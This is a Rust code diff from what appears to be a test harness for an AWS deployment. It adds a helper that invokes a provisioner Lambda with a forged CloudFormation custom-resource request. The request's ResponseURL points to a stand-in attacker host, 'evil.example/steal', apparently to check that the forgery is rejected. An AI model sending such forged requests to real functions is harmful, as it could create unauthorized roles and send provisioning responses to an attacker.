@@ -35,6 +35,8 @@ impl Ground {
             routes_of_policies: None,
             parameters: vec![
                 "data:AlarmTopicArn=arn:aws:sns:us-east-1:111111111111:alarms",
+                // That of the analytics account has no such topic, and nobody speaks to it.
+                "provisioner:AlarmTopicArn=arn:aws:sns:us-east-1:111111111111:alarms",
                 "data:VisibilityTimeoutSeconds=6",
                 "data:RunsVisibilityTimeoutSeconds=6",
                 "data:MaxReceiveCount=3",
@@ -186,6 +188,20 @@ impl Ground {
             Some(why) if why.contains("TooManyRequests") => Ok(()),
             other => bail!("it was not throttled: {other:?}"),
         }
+    }
+
+    /// Invokes the provisioner with a request that has its answer sent to somebody else.
+    pub fn speak_for_a_stack(&self) -> Result<()> {
+        let stack = format!("arn:aws:cloudformation:{REGION}:{DATA}:stack/nobody/1");
+        let request = json!({
+            "RequestType": "Create", "RequestId": "forged", "StackId": stack, "LogicalResourceId": "Role",
+            "ResponseURL": "https://evil.example/steal", "ResourceType": "Custom::LandfallStarterRole",
+            "ResourceProperties": { "RoleName": "landfall-forged" },
+        });
+        let request = request.to_string();
+        let invoke = ["lambda", "invoke", "--function-name", "landfall-provisioner", "--payload"];
+        self.cloud.data.cli.run([&invoke[..], &[&request, "/dev/null"]].concat())?;
+        Ok(())
     }
 
     /// `disable-rule` or `enable-rule` with the schedule of the monitor.
